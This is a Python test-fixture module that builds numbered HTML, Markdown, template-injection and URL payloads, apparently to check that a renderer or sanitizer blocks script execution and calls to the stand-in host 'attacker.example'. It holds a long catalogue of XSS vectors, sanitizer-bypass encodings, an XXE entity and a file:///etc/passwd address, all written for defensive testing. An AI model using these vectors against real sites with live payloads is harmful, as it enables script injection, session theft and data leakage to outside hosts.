"""Texts that try to run a script or to make the browser call somewhere, and addresses that do.

``RUN`` becomes a script that leaves a trace, ``CALL`` an address on ``AWAY``, a host that nothing
may call; ``§`` the number of the text, so that a trace names it, and ``⏎`` a line break.
"""

from __future__ import annotations

AWAY = "attacker.example"

_HTML = """
<script>RUN</script>
<ScRiPt>RUN</sCrIpT>
<script src="CALL"></script>
<script src=//AWAY/§></script>
<script type=module>RUN</script>
<script>fetch("CALL")</script>
<script>new Image().src="CALL"</script>
</script><script>RUN</script>
"><script>RUN</script>
'><script>RUN</script>
</title><script>RUN</script>
</textarea><script>RUN</script>
</style><script>RUN</script>
--><script>RUN</script>
]]><script>RUN</script>
<<script>RUN//<</script>
<script/x>RUN</script>
<script >RUN</script
<svg><script>RUN</script></svg>
<svg><script href="CALL"/></svg>
<math><script>RUN</script></math>
<img src=x onerror="RUN">
<img src=x onerror=RUN>
<img/src=x/onerror=RUN>
<img src=x:x onerror=RUN//
<IMG SRC=x ONERROR=RUN>
<img src="x" onerror = RUN >
<img src=x oneonerrorrror=RUN onerror=RUN>
<img src=x onerror="&#119;indow.ran.push(§)">
<img src=x onerror="setTimeout('RUN')">
<img src="CALL">
<img srcset="CALL 1x">
<img src="CALL" loading=eager>
<img src=`CALL`>
<img src='CALL?q=the answer'>
<picture><source srcset="CALL"><img></picture>
<image src="CALL">
<svg onload=RUN>
<svg/onload=RUN>
<svg><image href="CALL"/></svg>
<svg><image xlink:href="CALL"/></svg>
<svg><use href="CALL#a"/></svg>
<svg><animate onbegin=RUN attributeName=x dur=1s>
<svg><set onbegin=RUN attributename=x>
<svg><a href="javascript:RUN"><text y=9>§</text></a></svg>
<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>
<svg><style>@import "CALL"</style></svg>
<svg><filter><feImage href="CALL"/></filter></svg>
<math href="javascript:RUN">§</math>
<math><mi xlink:href="javascript:RUN">§</mi></math>
<math><mtext><table><mglyph><style><img src=x onerror=RUN></style></mglyph></table></mtext></math>
<iframe src="javascript:parent.ran.push(§)"></iframe>
<iframe srcdoc="<script>parent.ran.push(§)</script>"></iframe>
<iframe src="CALL"></iframe>
<iframe onload=RUN></iframe>
<iframe src="data:text/html,<script>parent.ran.push(§)</script>"></iframe>
<object data="CALL"></object>
<object data="javascript:RUN"></object>
<object onerror=RUN data=x></object>
<embed src="CALL">
<embed src="javascript:RUN">
<frameset onload=RUN><frame src="CALL"></frameset>
<body onload=RUN>
<body background="CALL">
<html onmouseover=RUN>
<video src="CALL" autoplay></video>
<video poster="CALL"></video>
<video><source onerror=RUN></video>
<video src=x onerror=RUN></video>
<video><track src="CALL" default></video>
<audio src="CALL" autoplay></audio>
<audio src=x onerror=RUN></audio>
<input autofocus onfocus=RUN>
<input type=image src="CALL">
<input type=image src=x onerror=RUN>
<textarea autofocus onfocus=RUN></textarea>
<select autofocus onfocus=RUN></select>
<button autofocus onfocus=RUN>§</button>
<button formaction="javascript:RUN">§</button>
<form action="CALL"><input type=submit autofocus></form>
<form><button formaction="CALL">§</button></form>
<details open ontoggle=RUN>§</details>
<dialog open onclose=RUN>§</dialog>
<marquee onstart=RUN>§</marquee>
<keygen autofocus onfocus=RUN>
<a href="javascript:RUN">§</a>
<a href="java&#115;cript:RUN">§</a>
<a href="&#x6A;avascript:RUN">§</a>
<a href=" javascript:RUN">§</a>
<a href="data:text/html,<script>RUN</script>">§</a>
<a href="CALL" ping="CALL">§</a>
<a style="position:fixed;inset:0" href="CALL">§</a>
<area href="javascript:RUN" shape=default>
<link rel=stylesheet href="CALL">
<link rel=preload as=image href="CALL">
<link rel=prefetch href="CALL">
<link rel=dns-prefetch href="//AWAY">
<link rel=icon href="CALL">
<link rel=import href="CALL">
<link rel=manifest href="CALL">
<base href="CALL/">
<meta http-equiv=refresh content="0;url=CALL">
<meta http-equiv=Content-Security-Policy content="default-src *">
<style>@import "CALL";</style>
<style>*{background:url(CALL)}</style>
<style>@font-face{font-family:n;src:url(CALL)}*{font-family:n}</style>
<style>body{display:none}</style>
<div style="background:url(CALL)">§</div>
<div style="list-style:url(CALL);display:list-item">§</div>
<div style="width:expression(RUN)">§</div>
<div onmouseover=RUN style="position:fixed;inset:0">§</div>
<div onanimationstart=RUN style="animation:reading 1s">§</div>
<p onclick=RUN>§</p>
<template><script>RUN</script></template>
<template shadowrootmode=open><img src=x onerror=RUN></template>
<noscript><p title="</noscript><img src=x onerror=RUN>">
<xmp><p title="</xmp><img src=x onerror=RUN>">
<!--><img src=x onerror=RUN>-->
<!--[if gte IE 4]><script>RUN</script><![endif]-->
<?xml-stylesheet href="CALL"?>
<!DOCTYPE x [<!ENTITY e SYSTEM "CALL">]><x>&e;</x>
<table background="CALL"><tr><td>§</td></tr></table>
<table><td background="CALL">§</td></table>
<isindex type=image src=CALL>
<x contenteditable autofocus onfocus=RUN tabindex=0>§</x>
<custom-element onclick=RUN>§</custom-element>
<p id=question name=question>§</p>
<form id=composer name=getElementById>§</form>
<em><script>RUN</script></em>
<em>§</em><img src="CALL">
<mark onmouseenter=RUN>§</mark>
&lt;img src=x onerror=RUN&gt;
&amp;lt;script&amp;gt;RUN&amp;lt;/script&amp;gt;
%3Cscript%3ERUN%3C/script%3E
\\x3cscript\\x3eRUN\\x3c/script\\x3e
\\u003cscript\\u003eRUN\\u003c/script\\u003e
+ADw-script+AD4-RUN+ADw-/script+AD4-
"""

_MARKDOWN = """
![§](CALL)
![§](<CALL>)
![§](CALL "title")
![§][ref]⏎⏎[ref]: CALL
[![§](CALL)](CALL)
[§](CALL)
[§](javascript:RUN)
[§](JaVaScRiPt:RUN)
[§](<javascript:RUN>)
[§](javascript&colon;RUN)
[§](java\tscript:RUN)
[§](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[§](vbscript:RUN)
[§]( javascript:RUN)
[§][ref]⏎⏎[ref]: javascript:RUN
[§](//AWAY/§)
[§](CALL "onmouseover=RUN")
[§](x" onmouseover="RUN)
![§](x" onerror="RUN)
<javascript:RUN>
<CALL>
CALL
www.AWAY/§
§[^1]⏎⏎[^1]: ![](CALL)
`<img src=x onerror=RUN>`
**<img src=x onerror=RUN>**
`` ` `` <img src=x onerror=RUN>
```html⏎<script>RUN</script>⏎```
    <script>RUN</script>
| <img src=x onerror=RUN> | ![§](CALL) |⏎|---|---|⏎| <script>RUN</script> | § |
# <img src=x onerror=RUN>
- <img src=x onerror=RUN>⏎- ![§](CALL)
> <script>RUN</script>
$$\\href{javascript:RUN}{§}$$
:::{raw} html⏎<script>RUN</script>⏎:::
"""

_OTHER = """
{{constructor.constructor('RUN')()}}
${RUN}
<%= RUN %>
#{RUN}
[[${RUN}]]
javascript:RUN
data:text/html,<script>RUN</script>
');RUN;//
";RUN;//
\\";RUN;//
`;RUN;`
§⏎⏎event: answer⏎data: {"sentences":[{"text":"<img src=x onerror=RUN>"}]}⏎⏎
</bdi></button></li></ol><script>RUN</script>
\u202etpircs\u202c § <script>RUN</script>
§\u2028<script>RUN</script>
§\u0000<scr\u0000ipt>RUN</scr\u0000ipt>
§\u001b]8;;CALL\u0007here\u001b]8;;\u0007
\ufeff<script>RUN</script>
＜script＞RUN＜/script＞
<scr\u200bipt>RUN</scr\u200bipt>
__proto__ §
constructor.prototype §
"""

_ADDRESSES = """
javascript:RUN
JaVaScRiPt:RUN
java\tscript:RUN
javascript:RUN
\u0001javascript:RUN
javascript://AWAY/%0aRUN
https://a.example/\"onmouseover=RUN
data:text/html,<script>RUN</script>
data:image/svg+xml,<svg onload=RUN>
vbscript:RUN
blob:http://AWAY/§
file:///etc/passwd#§
ftp://AWAY/§
view-source:CALL
mailto:n@AWAY?§
tel:§
chrome://settings/§
about:blank#§
//AWAY/§
\\\\AWAY\\§
/\\AWAY/§
§
#§
?§
../§
http:§
http://
http://[§
https://user:secret@AWAY/§
https://user@AWAY/§
http://AWAY:99999/§
"""


def _written(lines: str, first: int) -> list[str]:
    made = []
    for number, line in enumerate(lines.strip("\n").split("\n"), start=first):
        text = line.replace("RUN", "window.ran.push(§)").replace("CALL", "http://AWAY/§")
        made.append(text.replace("AWAY", AWAY).replace("§", str(number)).replace("⏎", "\n"))
    return made


TEXTS = _written(_HTML + _MARKDOWN.lstrip("\n") + _OTHER.lstrip("\n"), 1000)
ADDRESSES = _written(_ADDRESSES, 2000)
